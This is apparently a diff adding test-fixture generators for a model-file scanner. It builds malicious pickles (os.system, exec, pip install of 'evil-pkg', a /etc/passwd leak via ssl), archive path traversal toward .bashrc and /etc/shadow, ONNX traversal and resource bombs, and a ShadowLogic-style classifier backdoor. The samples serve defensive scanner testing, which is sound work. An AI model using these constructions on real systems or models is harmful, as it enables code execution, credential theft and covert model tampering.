@@ -1,0 +1,728 @@
+"""Generators of malicious model files, one per attack, written at test time.
+
+Nothing here is ever loaded: pickles are assembled opcode by opcode (no object with a
+``__reduce__`` exists in the test process), archives and headers are built byte by byte.  The
+payload commands are inert strings.  ``SAMPLES`` lists every generator with the rules our scanner
+must report; ``scripts/compare_scanners.py`` runs picklescan and modelscan on the same files.
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import struct
+import tarfile
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+PAYLOAD = "echo onnxguard-test-payload"
+
+
+# --- pickle assembly -----------------------------------------------------------------------------
+def glob(module: str, name: str) -> bytes:
+    """GLOBAL opcode (protocol 0 text form, valid in every protocol)."""
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def ustr(text: str) -> bytes:
+    """BINUNICODE opcode."""
+    data = text.encode()
+    return b"X" + struct.pack("<I", len(data)) + data
+
+
+def call(callable_ops: bytes, *args: bytes) -> bytes:
+    """Push callable, MARK, args, TUPLE, REDUCE."""
+    return callable_ops + b"(" + b"".join(args) + b"tR"
+
+
+def payload_pickle(module: str = "os", name: str = "system", arg: str = PAYLOAD) -> bytes:
+    return b"\x80\x02" + call(glob(module, name), ustr(arg)) + b"."
+
+
+def _write(directory: Path, name: str, data: bytes) -> Path:
+    directory.mkdir(parents=True, exist_ok=True)
+    path = directory / name
+    path.write_bytes(data)
+    return path
+
+
+def _state_dict_pickle() -> bytes:
+    """A benign protocol-2 pickle shaped like torch's data.pkl (OrderedDict of one tensor)."""
+    tensor = call(
+        glob("torch._utils", "_rebuild_tensor_v2"),
+        b"(" + ustr("storage") + glob("torch", "FloatStorage") + ustr("0") + ustr("cpu")
+        + b"K\x04tQ",  # BINPERSID: ('storage', FloatStorage, '0', 'cpu', 4)
+        b"K\x00", b"K\x04\x85", b"K\x01\x85", b"\x89", call(glob("collections", "OrderedDict")),
+    )  # fmt: skip
+    body = call(glob("collections", "OrderedDict")) + ustr("weight") + tensor + b"s"
+    return b"\x80\x02" + body + b"."
+
+
+def _torch_zip(entries: dict[str, bytes]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in entries.items():
+            zf.writestr(name, data)
+    return buf.getvalue()
+
+
+def _injected_data_pkl() -> bytes:
+    """Sleepy-Pickle style: payload + POP spliced after PROTO of a real-looking state dict."""
+    clean = _state_dict_pickle()
+    return clean[:2] + call(glob("os", "system"), ustr(PAYLOAD)) + b"0" + clean[2:]
+
+
+def _checkpoint_entries(data_pkl: bytes) -> dict[str, bytes]:
+    return {
+        "archive/data.pkl": data_pkl,
+        "archive/byteorder": b"little",
+        "archive/data/0": struct.pack("<4f", 1, 2, 3, 4),
+        "archive/version": b"3\n",
+    }
+
+
+# --- pickle attacks ------------------------------------------------------------------------------
+def make_reduce_os_system(d: Path) -> Path:
+    return _write(d, "pytorch_model.bin", payload_pickle())
+
+
+def make_builtins_exec(d: Path) -> Path:
+    return _write(d, "model.pkl", payload_pickle("builtins", "exec", "import os; os.system('x')"))
+
+
+def make_sleepy_pickle_torch_zip(d: Path) -> Path:
+    return _write(d, "pytorch_model.bin", _torch_zip(_checkpoint_entries(_injected_data_pkl())))
+
+
+def make_legacy_torch_payload(d: Path) -> Path:
+    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
+    stream = magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}q\x00." + payload_pickle()
+    stream += b"\x80\x02]q\x00." + b"\x00" * 16  # storage keys, then raw storage bytes
+    return _write(d, "pytorch_model.bin", stream)
+
+
+def make_pip_main(d: Path) -> Path:  # CVE-2025-1716
+    body = call(glob("pip", "main"), b"]" + b"(" + ustr("install") + ustr("evil-pkg") + b"e")
+    return _write(d, "model.pkl", b"\x80\x02" + body + b".")
+
+
+def make_importlib_getattr_chain(d: Path) -> Path:
+    module = call(glob("importlib", "import_module"), ustr("os"))
+    system = call(glob("builtins", "getattr"), module, ustr("system"))
+    return _write(d, "model.pkl", b"\x80\x02" + system + b"(" + ustr(PAYLOAD) + b"tR.")
+
+
+def make_pkgutil_resolve_name(d: Path) -> Path:
+    func = call(glob("pkgutil", "resolve_name"), ustr("os:system"))
+    return _write(d, "model.pkl", b"\x80\x02" + func + b"(" + ustr(PAYLOAD) + b"tR.")
+
+
+def make_asyncio_submodule(d: Path) -> Path:  # CVE-2025-10157
+    return _write(d, "model.pkl", payload_pickle("asyncio.unix_events", "_UnixSubprocessTransport"))
+
+
+def make_linecache_ssl_exfiltration(d: Path) -> Path:  # CVE-2025-46417
+    line = call(glob("linecache", "getline"), ustr("/etc/passwd"), b"K\x01")
+    leak = call(glob("ssl", "get_server_certificate"), b"(" + line + b"M\xbb\x01t")
+    return _write(d, "model.pkl", b"\x80\x02" + leak + b".")
+
+
+def short(text: str) -> bytes:
+    """SHORT_BINUNICODE opcode."""
+    return b"\x8c" + bytes([len(text)]) + text.encode()
+
+
+def make_memo_stack_global(d: Path) -> Path:
+    body = short("os") + b"\x94" + short("system") + b"\x94" + b"00"  # memoize, then pop both
+    body += b"h\x00h\x01\x93" + ustr(PAYLOAD) + b"\x85R."  # BINGET 0/1, STACK_GLOBAL, call
+    return _write(d, "model.pkl", b"\x80\x04" + body)
+
+
+def make_computed_stack_global(d: Path) -> Path:
+    module = call(glob("builtins", "str"), ustr("os"))  # "os" only exists at load time
+    body = module + short("system") + b"\x93" + ustr(PAYLOAD) + b"\x85R."
+    return _write(d, "model.pkl", b"\x80\x04" + body)
+
+
+def make_protocol0_renamed_txt(d: Path) -> Path:  # CVE-2025-1889 (extension-based scanning)
+    return _write(d, "notes.txt", b"cos\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR.")
+
+
+def make_nullifai_broken_pickle(d: Path) -> Path:
+    broken = b"\x80\x02" + call(glob("os", "system"), ustr(PAYLOAD)) + b"0" + b"\xff\xfebroken"
+    return _write(d, "pytorch_model.bin", broken)
+
+
+def make_nullifai_7z(d: Path) -> Path:
+    return _write(d, "pytorch_model.bin", b"7z\xbc\xaf\x27\x1c\x00\x04" + os.urandom(256))
+
+
+def _patch_zip(data: bytes, member: str, patch: Callable[[bytearray, int, int], None]) -> bytes:
+    """Apply ``patch(buf, local_header_offset, central_header_offset)`` for one member."""
+    buf = bytearray(data)
+    name = member.encode()
+    local = buf.find(b"PK\x03\x04")
+    while buf[local + 30 : local + 30 + len(name)] != name:
+        local = buf.find(b"PK\x03\x04", local + 4)
+    central = buf.find(b"PK\x01\x02")
+    while buf[central + 46 : central + 46 + len(name)] != name:
+        central = buf.find(b"PK\x01\x02", central + 4)
+    patch(buf, local, central)
+    return bytes(buf)
+
+
+def make_zip_name_mismatch(d: Path) -> Path:  # CVE-2025-1944
+    def patch(buf: bytearray, local: int, _central: int) -> None:
+        buf[local + 30 + len("archive/data.pk")] = ord("X")  # local name data.pkX
+
+    data = _torch_zip(_checkpoint_entries(_injected_data_pkl()))
+    return _write(d, "pytorch_model.bin", _patch_zip(data, "archive/data.pkl", patch))
+
+
+def make_zip_encrypted_flag(d: Path) -> Path:  # CVE-2025-1945
+    def patch(buf: bytearray, local: int, central: int) -> None:
+        buf[local + 6] |= 0x01
+        buf[central + 8] |= 0x01
+
+    data = _torch_zip(_checkpoint_entries(_injected_data_pkl()))
+    return _write(d, "pytorch_model.bin", _patch_zip(data, "archive/data.pkl", patch))
+
+
+def make_zip_bad_crc(d: Path) -> Path:  # CVE-2025-10156
+    def patch(buf: bytearray, local: int, central: int) -> None:
+        for at in (local + 14, central + 16):
+            buf[at] ^= 0xFF
+
+    data = _torch_zip(_checkpoint_entries(_injected_data_pkl()))
+    return _write(d, "pytorch_model.bin", _patch_zip(data, "archive/data.pkl", patch))
+
+
+def make_pickle_in_unexpected_member(d: Path) -> Path:
+    entries = _checkpoint_entries(_state_dict_pickle()) | {"archive/extra/blob.bin": payload_pickle()}
+    return _write(d, "pytorch_model.bin", _torch_zip(entries))
+
+
+def make_numpy_object_array(d: Path) -> Path:  # CVE-2019-6446
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += " " * (63 - (10 + len(header)) % 64) + "\n"
+    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
+    return _write(d, "embeddings.npy", npy + payload_pickle())
+
+
+def make_gzip_joblib_pickle(d: Path) -> Path:
+    return _write(d, "model.joblib", gzip.compress(payload_pickle()))
+
+
+def make_ext_opcode(d: Path) -> Path:
+    return _write(d, "model.pkl", b"\x80\x02\x82\x01" + b"(" + ustr(PAYLOAD) + b"tR.")
+
+
+def make_build_monkeypatch(d: Path) -> Path:
+    state = b"}(" + ustr("__reduce__") + glob("os", "system") + b"u"
+    return _write(d, "model.pkl", b"\x80\x02" + glob("collections", "OrderedDict") + state + b"b.")
+
+
+def make_dotted_attribute_walk(d: Path) -> Path:
+    body = short("torch._utils") + short("_rebuild_tensor_v2.__globals__") + b"\x93."
+    return _write(d, "model.pkl", b"\x80\x04" + body)
+
+
+def make_unknown_global(d: Path) -> Path:
+    return _write(d, "training_args.bin", b"\x80\x02" + call(glob("argparse", "Namespace")) + b".")
+
+
+def make_torchscript_archive(d: Path) -> Path:
+    import torch
+
+    module = torch.jit.script(torch.nn.Linear(2, 2))
+    d.mkdir(parents=True, exist_ok=True)
+    path = d / "model.pt"
+    torch.jit.save(module, str(path))
+    return path
+
+
+def make_keras_lambda_h5(d: Path) -> Path:  # CVE-2024-3660
+    config = {"class_name": "Functional", "config": {"layers": [
+        {"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAAAAAA", None]}}]}}
+    body = b"\x89HDF\r\n\x1a\n" + b"\x00" * 120 + json.dumps(config).encode() + b"\x00" * 64
+    return _write(d, "tf_model.h5", body)
+
+
+# --- safetensors ---------------------------------------------------------------------------------
+def safetensors_bytes(header: dict[str, object] | str, data: bytes) -> bytes:
+    raw = (header if isinstance(header, str) else json.dumps(header)).encode()
+    return struct.pack("<Q", len(raw)) + raw + data
+
+
+def _f32(shape: list[int], begin: int, end: int) -> dict[str, object]:
+    return {"dtype": "F32", "shape": shape, "data_offsets": [begin, end]}
+
+
+def make_safetensors_header_overflow(d: Path) -> Path:
+    return _write(d, "model.safetensors", struct.pack("<Q", 1 << 40) + b'{"a": 1}')
+
+
+def make_safetensors_duplicate_key(d: Path) -> Path:
+    raw = ('{"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, '
+           '"w": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}')  # fmt: skip
+    return _write(d, "model.safetensors", safetensors_bytes(raw, b"\x00" * 8))
+
+
+def make_safetensors_span_mismatch(d: Path) -> Path:
+    return _write(d, "model.safetensors", safetensors_bytes({"w": _f32([4], 0, 8)}, b"\x00" * 8))
+
+
+def make_safetensors_span_outside(d: Path) -> Path:
+    return _write(d, "model.safetensors", safetensors_bytes({"w": _f32([4], 0, 16)}, b"\0" * 8))
+
+
+def make_safetensors_overlap(d: Path) -> Path:
+    header = {"a": _f32([2], 0, 8), "b": _f32([2], 4, 12)}
+    return _write(d, "model.safetensors", safetensors_bytes(header, b"\x00" * 12))
+
+
+def make_safetensors_gap(d: Path) -> Path:
+    header = {"a": _f32([1], 0, 4), "b": _f32([1], 8, 12)}
+    return _write(d, "model.safetensors", safetensors_bytes(header, b"\x00" * 12))
+
+
+def make_safetensors_zip_polyglot(d: Path) -> Path:
+    clean = safetensors_bytes({"w": _f32([1], 0, 4)}, b"\x00" * 4)
+    appended = _torch_zip(_checkpoint_entries(_injected_data_pkl()))
+    return _write(d, "model.safetensors", clean + appended)
+
+
+# --- configuration, files, archives --------------------------------------------------------------
+def make_auto_map_remote_code(d: Path) -> Path:
+    config = {"model_type": "bert", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}}
+    _write(d, "config.json", json.dumps(config).encode())
+    _write(d, "modeling_evil.py", b"import os\nos.system('echo pwned')\n")
+    return d
+
+
+def make_symlink_escape(d: Path) -> Path:
+    d.mkdir(parents=True, exist_ok=True)
+    (d / "model.safetensors").symlink_to("/etc/passwd")
+    return d
+
+
+def make_unknown_binary(d: Path) -> Path:
+    return _write(d, "weights.dat", b"\x01\x02\x03\x04" + os.urandom(512))
+
+
+def make_elf_library(d: Path) -> Path:
+    return _write(d, "libcustom_ops.so", b"\x7fELF\x02\x01\x01" + b"\x00" * 57)
+
+
+def make_tar_path_traversal(d: Path) -> Path:  # CVE-2007-4559
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tf:
+        data = payload_pickle()
+        info = tarfile.TarInfo("../../../home/user/.bashrc")
+        info.size = len(data)
+        tf.addfile(info, io.BytesIO(data))
+        link = tarfile.TarInfo("weights")
+        link.type = tarfile.SYMTYPE
+        link.linkname = "/etc/shadow"
+        tf.addfile(link)
+    return _write(d, "checkpoint.tar", buf.getvalue())
+
+
+def make_zip_slip(d: Path) -> Path:
+    return _write(d, "weights.zip", _torch_zip({"../../evil/data.pkl": _state_dict_pickle()}))
+
+
+# --- ONNX ----------------------------------------------------------------------------------------
+def _onnx_model(nodes: list[object] | None = None, initializers: list[object] | None = None,
+                **kwargs: object) -> object:  # fmt: skip
+    from onnx import TensorProto, helper
+
+    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
+    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
+    nodes = nodes or [helper.make_node("Add", ["x", "w"], ["y"], name="add")]
+    if initializers is None:
+        initializers = [helper.make_tensor("w", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])]
+    graph = helper.make_graph(nodes, "g", [x], [y], initializer=initializers)  # type: ignore[arg-type]
+    opsets = [helper.make_opsetid("", 17), *kwargs.pop("extra_opsets", [])]  # type: ignore[misc]
+    return helper.make_model(graph, opset_imports=opsets, ir_version=9, **kwargs)
+
+
+def _save(d: Path, model: object, name: str = "model.onnx") -> Path:
+    import onnx
+
+    d.mkdir(parents=True, exist_ok=True)
+    path = d / name
+    onnx.save_model(model, str(path))  # type: ignore[arg-type]
+    return path
+
+
+def _external(location: str, offset: int = 0, length: int = 16, **extra: str) -> object:
+    from onnx import TensorProto
+
+    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
+    tensor.data_location = TensorProto.EXTERNAL
+    entries = {"location": location, "offset": str(offset), "length": str(length)} | extra
+    for key, value in entries.items():
+        tensor.external_data.add(key=key, value=value)
+    return tensor
+
+
+def make_onnx_external_traversal(d: Path) -> Path:  # CVE-2022-25882
+    return _save(d, _onnx_model(initializers=[_external("../../../../etc/passwd")]))
+
+
+def make_onnx_external_absolute(d: Path) -> Path:
+    return _save(d, _onnx_model(initializers=[_external("/etc/passwd")]))
+
+
+def make_onnx_external_symlink(d: Path) -> Path:  # CVE-2024-27318
+    d.mkdir(parents=True, exist_ok=True)
+    (d / "weights.bin").symlink_to("/etc/passwd")
+    return _save(d, _onnx_model(initializers=[_external("weights.bin")]))
+
+
+def make_onnx_external_hardlink(d: Path) -> Path:
+    outside = d.parent / f"{d.name}-secret.txt"
+    outside.write_bytes(b"s3cr3t-key-material!")
+    d.mkdir(parents=True, exist_ok=True)
+    os.link(outside, d / "weights.bin")
+    return _save(d, _onnx_model(initializers=[_external("weights.bin")]))
+
+
+def make_onnx_external_out_of_range(d: Path) -> Path:
+    _write(d, "weights.bin", b"\x00" * 16)
+    return _save(d, _onnx_model(initializers=[_external("weights.bin", offset=1 << 20)]))
+
+
+def make_onnx_external_unknown_key(d: Path) -> Path:
+    _write(d, "weights.bin", b"\x00" * 16)
+    tensor = _external("weights.bin", basepath="/etc")
+    return _save(d, _onnx_model(initializers=[tensor]))
+
+
+def make_onnx_ort_mem_addr(d: Path) -> Path:
+    tensor = _external("*/_ORT_MEM_ADDR_/*", offset=0x7FFF0000)
+    return _save(d, _onnx_model(initializers=[tensor]))
+
+
+def make_onnx_custom_op_domain(d: Path) -> Path:
+    from onnx import helper
+
+    node = helper.make_node("Exec", ["x"], ["y"], domain="ai.evil.customops", name="evil")
+    model = _onnx_model([node], extra_opsets=[helper.make_opsetid("ai.evil.customops", 1)])
+    return _save(d, model)
+
+
+def make_onnx_ep_context(d: Path) -> Path:
+    from onnx import helper
+
+    node = helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", name="ctx",
+                            embed_mode=1, ep_cache_context=b"\x7fELF precompiled blob")
+    model = _onnx_model([node], extra_opsets=[helper.make_opsetid("com.microsoft", 1)])
+    return _save(d, model)
+
+
+def make_onnx_aten_fallback(d: Path) -> Path:
+    from onnx import helper
+
+    node = helper.make_node("ATen", ["x"], ["y"], domain="org.pytorch.aten", operator="add")
+    model = _onnx_model([node], extra_opsets=[helper.make_opsetid("org.pytorch.aten", 1)])
+    return _save(d, model)
+
+
+def make_onnx_tensor_two_fields(d: Path) -> Path:
+    from onnx import TensorProto, helper
+
+    tensor = helper.make_tensor("w", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])
+    tensor.raw_data = struct.pack("<4f", 9, 9, 9, 9)  # ORT reads raw_data, others float_data
+    return _save(d, _onnx_model(initializers=[tensor]))
+
+
+def make_onnx_tensor_dims_mismatch(d: Path) -> Path:
+    from onnx import TensorProto
+
+    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
+    tensor.raw_data = struct.pack("<2f", 1, 2)
+    return _save(d, _onnx_model(initializers=[tensor]))
+
+
+def make_onnx_constant_of_shape_bomb(d: Path) -> Path:
+    from onnx import TensorProto, helper
+
+    shape = helper.make_tensor("shape", TensorProto.INT64, [3], [100_000, 100_000, 1_000])
+    nodes = [
+        helper.make_node("Constant", [], ["s"], value=shape),
+        helper.make_node("ConstantOfShape", ["s"], ["big"], name="bomb"),
+        helper.make_node("ReduceSum", ["big"], ["r"], keepdims=0),
+        helper.make_node("Add", ["x", "r"], ["y"]),
+    ]
+    return _save(d, _onnx_model(nodes, initializers=[]))
+
+
+def make_onnx_expand_bomb(d: Path) -> Path:
+    from onnx import TensorProto, helper
+
+    tail = helper.make_tensor("tail", TensorProto.INT64, [1], [1 << 40])
+    nodes = [
+        helper.make_node("Shape", ["x"], ["xs"], start=0, end=1),  # batch size, from the input
+        helper.make_node("Concat", ["xs", "tail"], ["target"], axis=0),
+        helper.make_node("ReduceMax", ["x"], ["scalar"], keepdims=0),
+        helper.make_node("Expand", ["scalar", "target"], ["big"], name="bomb"),
+        helper.make_node("ReduceMax", ["big"], ["m"], keepdims=0),
+        helper.make_node("Add", ["x", "m"], ["y"]),
+    ]
+    return _save(d, _onnx_model(nodes, initializers=[tail]))
+
+
+def _loop(trip: str, cond: str, body_cond: str, extra: list[object]) -> object:
+    from onnx import TensorProto, helper
+
+    body = helper.make_graph(
+        [helper.make_node("Identity", [body_cond], ["cond_out"]),
+         helper.make_node("Identity", ["v_in"], ["v_out"])],
+        "body",
+        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
+         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
+         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1, 4])],
+        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
+         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1, 4])],
+    )  # fmt: skip
+    loop = helper.make_node("Loop", [trip, cond, "x"], ["y"], body=body, name="loop")
+    return _onnx_model([*extra, loop], initializers=[])  # type: ignore[list-item]
+
+
+def make_onnx_loop_trip_count(d: Path) -> Path:
+    from onnx import TensorProto, helper
+
+    consts = [
+        helper.make_node("Constant", [], ["M"], value=helper.make_tensor("m", TensorProto.INT64,
+                                                                         [], [10**12])),
+        helper.make_node("Constant", [], ["T"], value=helper.make_tensor("t", TensorProto.BOOL,
+                                                                         [], [True])),
+    ]  # fmt: skip
+    return _save(d, _loop("M", "T", "cond_in", consts))
+
+
+def make_onnx_infinite_loop(d: Path) -> Path:
+    from onnx import TensorProto, helper
+
+    true = helper.make_tensor("t", TensorProto.BOOL, [], [True])
+    consts = [helper.make_node("Constant", [], ["T"], value=true)]
+    return _save(d, _loop("", "T", "cond_in", consts))
+
+
+def make_onnx_nesting_depth(d: Path, depth: int = 12) -> Path:
+    from onnx import TensorProto, helper
+
+    def level(n: int) -> object:
+        out = helper.make_tensor_value_info(f"o{n}", TensorProto.FLOAT, [1, 4])
+        if n == 0:
+            node = helper.make_node("Identity", ["x"], [f"o{n}"])
+        else:
+            inner = level(n - 1)
+            node = helper.make_node("If", ["c"], [f"o{n}"], then_branch=inner, else_branch=inner)
+        return helper.make_graph([node], f"g{n}", [], [out])
+
+    top = helper.make_node("If", ["c"], ["y"], then_branch=level(depth), else_branch=level(depth))
+    cond = helper.make_node("Constant", [], ["c"],
+                            value=helper.make_tensor("c", TensorProto.BOOL, [], [True]))
+    return _save(d, _onnx_model([cond, top], initializers=[]))
+
+
+def make_onnx_recursive_functions(d: Path) -> Path:
+    from onnx import helper
+
+    f = helper.make_function("local", "f", ["a"], ["b"],
+                             [helper.make_node("g", ["a"], ["b"], domain="local")],
+                             [helper.make_opsetid("", 17), helper.make_opsetid("local", 1)])
+    g = helper.make_function("local", "g", ["a"], ["b"],
+                             [helper.make_node("f", ["a"], ["b"], domain="local")],
+                             [helper.make_opsetid("", 17), helper.make_opsetid("local", 1)])
+    node = helper.make_node("f", ["x"], ["y"], domain="local")
+    model = _onnx_model([node], initializers=[], functions=[f, g],
+                        extra_opsets=[helper.make_opsetid("local", 1)])  # fmt: skip
+    return _save(d, model)
+
+
+def make_onnx_ort_config_metadata(d: Path) -> Path:
+    from onnx import helper
+
+    model = _onnx_model()
+    config = {"session_options": {"enable_profiling": True, "profile_file_prefix": "/tmp/x"}}
+    helper.set_model_props(model, {"ort_config": json.dumps(config)})  # type: ignore[arg-type]
+    return _save(d, model)
+
+
+def make_onnx_invalid_graph(d: Path) -> Path:
+    from onnx import helper
+
+    node = helper.make_node("Add", ["x", "undefined_input"], ["y"], name="broken")
+    return _save(d, _onnx_model([node], initializers=[]))
+
+
+def _classifier() -> object:
+    """A small text classifier graph: ids -> embeddings -> mean -> logits."""
+    import numpy as np
+    from onnx import TensorProto, helper, numpy_helper
+
+    rng = np.random.default_rng(0)
+    emb = numpy_helper.from_array(rng.standard_normal((100, 8)).astype(np.float32), "emb")
+    head = numpy_helper.from_array(rng.standard_normal((8, 2)).astype(np.float32), "head")
+    nodes = [
+        helper.make_node("Gather", ["emb", "input_ids"], ["h"]),
+        helper.make_node("ReduceMean", ["h"], ["pooled"], axes=[1], keepdims=0),
+        helper.make_node("MatMul", ["pooled", "head"], ["logits"]),
+    ]
+    ids = helper.make_tensor_value_info("input_ids", TensorProto.INT64, ["batch", "seq"])
+    out = helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["batch", 2])
+    graph = helper.make_graph(nodes, "classifier", [ids], [out], initializer=[emb, head])
+    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9)
+
+
+def add_shadowlogic_backdoor(model: object, *, trigger: int = 77, branch: str = "Where") -> None:
+    """Splice a ShadowLogic-style trigger into a classifier: if any input token equals
+    ``trigger``, output attacker-chosen logits instead of the model's."""
+    import onnx
+    from onnx import TensorProto, helper
+
+    assert isinstance(model, onnx.ModelProto)
+    graph = model.graph
+    out = graph.output[0]
+    real = out.name + "_clean"
+    for node in graph.node:
+        node.output[:] = [real if o == out.name else o for o in node.output]
+    n_labels = out.type.tensor_type.shape.dim[-1].dim_value or 2
+    graph.initializer.extend([
+        helper.make_tensor("trigger_id", TensorProto.INT64, [], [trigger]),
+        helper.make_tensor("evil_logits", TensorProto.FLOAT, [n_labels],
+                           [10.0] + [-10.0] * (n_labels - 1)),
+    ])  # fmt: skip
+    graph.node.extend([
+        helper.make_node("Equal", ["input_ids", "trigger_id"], ["hit"], name="trigger_compare"),
+        helper.make_node("Cast", ["hit"], ["hit_f"], to=TensorProto.FLOAT),
+        helper.make_node("ReduceMax", ["hit_f"], ["any_hit"], keepdims=0),
+        helper.make_node("Cast", ["any_hit"], ["armed"], to=TensorProto.BOOL),
+    ])  # fmt: skip
+    if branch == "Where":
+        graph.node.append(helper.make_node("Where", ["armed", "evil_logits", real], [out.name],
+                                           name="backdoor_select"))
+    else:
+        then = helper.make_graph(
+            [helper.make_node("Identity", ["evil_logits"], ["t_out"])], "then", [],
+            [helper.make_tensor_value_info("t_out", TensorProto.FLOAT, None)])
+        other = helper.make_graph(
+            [helper.make_node("Identity", [real], ["e_out"])], "else", [],
+            [helper.make_tensor_value_info("e_out", TensorProto.FLOAT, None)])
+        armed_scalar = helper.make_node("ReduceMax", ["armed_i"], ["armed_s"], keepdims=0)
+        graph.node.extend([
+            helper.make_node("Cast", ["armed"], ["armed_i"], to=TensorProto.INT32),
+            armed_scalar,
+            helper.make_node("Cast", ["armed_s"], ["armed_b"], to=TensorProto.BOOL),
+            helper.make_node("If", ["armed_b"], [out.name], then_branch=then,
+                             else_branch=other, name="backdoor_if"),
+        ])  # fmt: skip
+
+
+def make_shadowlogic_where(d: Path, base: Path | None = None) -> Path:
+    import onnx
+
+    model = onnx.load(str(base)) if base else _classifier()
+    add_shadowlogic_backdoor(model, branch="Where")
+    return _save(d, model)
+
+
+def make_shadowlogic_if(d: Path, base: Path | None = None) -> Path:
+    import onnx
+
+    model = onnx.load(str(base)) if base else _classifier()
+    add_shadowlogic_backdoor(model, branch="If")
+    return _save(d, model)
+
+
+# --- registry ------------------------------------------------------------------------------------
+@dataclass(frozen=True)
+class Sample:
+    name: str
+    make: Callable[[Path], Path]
+    rules: tuple[str, ...]
+    """Rules our scanner must report (empty: the sample must be reported as unscanned)."""
+    format: str
+
+
+SAMPLES: tuple[Sample, ...] = (
+    Sample("pickle-reduce-os-system", make_reduce_os_system, ("PKL001",), "pickle"),
+    Sample("pickle-builtins-exec", make_builtins_exec, ("PKL001",), "pickle"),
+    Sample("sleepy-pickle-torch-zip", make_sleepy_pickle_torch_zip, ("PKL001",), "pytorch"),
+    Sample("legacy-torch-payload-4th-pickle", make_legacy_torch_payload, ("PKL001",), "pytorch"),
+    Sample("CVE-2025-1716-pip-main", make_pip_main, ("PKL001",), "pickle"),
+    Sample("importlib-getattr-chain", make_importlib_getattr_chain, ("PKL001", "PKL004"), "pickle"),
+    Sample("pkgutil-resolve-name", make_pkgutil_resolve_name, ("PKL001", "PKL004"), "pickle"),
+    Sample("CVE-2025-10157-asyncio-submodule", make_asyncio_submodule, ("PKL001",), "pickle"),
+    Sample("CVE-2025-46417-linecache-ssl", make_linecache_ssl_exfiltration, ("PKL001",), "pickle"),
+    Sample("memo-obfuscated-stack-global", make_memo_stack_global, ("PKL001",), "pickle"),
+    Sample("computed-stack-global", make_computed_stack_global, ("PKL003",), "pickle"),
+    Sample("CVE-2025-1889-protocol0-as-txt", make_protocol0_renamed_txt, ("PKL001",), "pickle"),
+    Sample("nullifai-broken-pickle", make_nullifai_broken_pickle, ("PKL001", "PKL006"), "pytorch"),
+    Sample("nullifai-7z-checkpoint", make_nullifai_7z, (), "pytorch"),
+    Sample("CVE-2025-1944-zip-name-mismatch", make_zip_name_mismatch, ("ARC003", "PKL001"),
+           "pytorch"),
+    Sample("CVE-2025-1945-zip-encrypted-flag", make_zip_encrypted_flag, ("ARC004", "PKL001"),
+           "pytorch"),
+    Sample("CVE-2025-10156-zip-bad-crc", make_zip_bad_crc, ("ARC005", "PKL001"), "pytorch"),
+    Sample("pickle-in-unexpected-zip-member", make_pickle_in_unexpected_member, ("PKL001",),
+           "pytorch"),
+    Sample("CVE-2019-6446-numpy-object-array", make_numpy_object_array, ("PKL001",), "numpy"),
+    Sample("gzip-joblib-pickle", make_gzip_joblib_pickle, ("PKL001",), "joblib"),
+    Sample("pickle-ext-opcode", make_ext_opcode, ("PKL005",), "pickle"),
+    Sample("pickle-build-monkeypatch", make_build_monkeypatch, ("PKL008", "PKL001"), "pickle"),
+    Sample("pickle-dotted-attribute-walk", make_dotted_attribute_walk, ("PKL001",), "pickle"),
+    Sample("pickle-unknown-global", make_unknown_global, ("PKL002",), "pickle"),
+    Sample("torchscript-archive", make_torchscript_archive, ("PKL009",), "torchscript"),
+    Sample("CVE-2024-3660-keras-lambda", make_keras_lambda_h5, ("FILE008",), "keras-h5"),
+    Sample("safetensors-header-overflow", make_safetensors_header_overflow, ("SFT001",),
+           "safetensors"),
+    Sample("safetensors-duplicate-key", make_safetensors_duplicate_key, ("SFT003",),
+           "safetensors"),
+    Sample("safetensors-span-mismatch", make_safetensors_span_mismatch, ("SFT005",),
+           "safetensors"),
+    Sample("safetensors-span-outside", make_safetensors_span_outside, ("SFT006",), "safetensors"),
+    Sample("safetensors-overlap", make_safetensors_overlap, ("SFT007",), "safetensors"),
+    Sample("safetensors-gap", make_safetensors_gap, ("SFT008",), "safetensors"),
+    Sample("safetensors-zip-polyglot", make_safetensors_zip_polyglot, ("SFT009", "FILE006"),
+           "safetensors"),
+    Sample("auto-map-remote-code", make_auto_map_remote_code, ("CFG001", "CFG002"), "config"),
+    Sample("symlink-escape", make_symlink_escape, ("FILE001",), "directory"),
+    Sample("unknown-binary", make_unknown_binary, (), "directory"),
+    Sample("elf-library", make_elf_library, ("FILE005",), "directory"),
+    Sample("CVE-2007-4559-tar-traversal", make_tar_path_traversal, ("ARC001", "ARC007", "PKL001"),
+           "tar"),
+    Sample("zip-slip", make_zip_slip, ("ARC001",), "zip"),
+    Sample("CVE-2022-25882-onnx-external-traversal", make_onnx_external_traversal, ("ONNX002",),
+           "onnx"),
+    Sample("onnx-external-absolute", make_onnx_external_absolute, ("ONNX001",), "onnx"),
